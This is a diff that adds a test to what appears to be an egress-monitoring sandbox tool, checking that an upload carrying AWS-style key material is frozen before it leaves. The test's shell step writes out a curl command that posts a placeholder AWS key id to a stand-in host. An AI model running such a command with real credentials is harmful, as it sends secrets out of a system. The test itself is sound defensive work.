@@ -269,3 +269,28 @@ def test_filesystem_secrets_taint_the_session(caller, web):
                            extra=extra2, ws=ws2)
     assert r.returncode == 0, r.stderr
     assert fired(events) == [] and not [e for e in events if e.get("type") == "file.secret_read"]
+
+
+def test_key_material_in_plaintext_egress_is_cut(caller, web):
+    """An AWS key id in a plain HTTP upload: a critical finding before the
+    bytes leave; the session freezes, egress is off, the server gets nothing."""
+    ws = caller.workspace()
+    pol = write_policy(caller, ws, web, extra="")
+    before = len(servers.uploads())
+    marker = "reins-key-test-" + os.urandom(4).hex()
+    p = caller.popen(["run", "-p", pol, "-w", ws, "--", "sh", "-c",
+                      f"curl -s --max-time 10 -d 'k=AKIAIOSFODNN7EXAMPLE&m={marker}' "
+                      f"http://api.example.test:{web}/upload; sleep 30"], cwd=ws, text=True)
+    session = None
+    deadline = time.time() + 60
+    while not session and time.time() < deadline:
+        for line in caller.run(["ps", "--json"]).stdout.splitlines():
+            e = json.loads(line)
+            if e.get("frozen") and e.get("alive") and e.get("pid") == p.pid:
+                session = e["session"]
+        time.sleep(0.2)
+    assert session, "key material in egress did not freeze the session"
+    assert caller.run(["stop", session]).returncode == 0
+    out, err = p.communicate(timeout=60)
+    assert "key-material-egress" in err and "T0 -> T3" in err, err
+    assert not any(marker.encode() in body for body in servers.uploads()[before:])
